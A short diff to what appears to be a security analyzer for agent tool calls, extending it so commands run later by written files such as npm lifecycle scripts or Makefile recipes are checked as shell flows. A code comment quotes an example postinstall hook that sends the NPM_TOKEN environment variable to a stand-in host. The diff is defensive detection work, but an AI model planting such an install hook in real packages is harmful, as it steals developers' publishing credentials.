@@ -357,6 +357,10 @@ def _flows(a: Analysis) -> Iterator[Flow]:
         yield from _shell_flows(a)
     elif tool in FILE_WRITE_TOOLS:
         yield from _write_flows(a)
+        if a.commands:
+            # what a written file runs later (an npm lifecycle script, a Makefile recipe): its flows are the action's
+            # (`"postinstall": "node -e \"…get('https://x/?u='+process.env.NPM_TOKEN)\""`, h8-0283)
+            yield from _shell_flows(a)
     elif tool in WEB_TOOLS:
         for e in a.effects:
             if e.kind == "network":
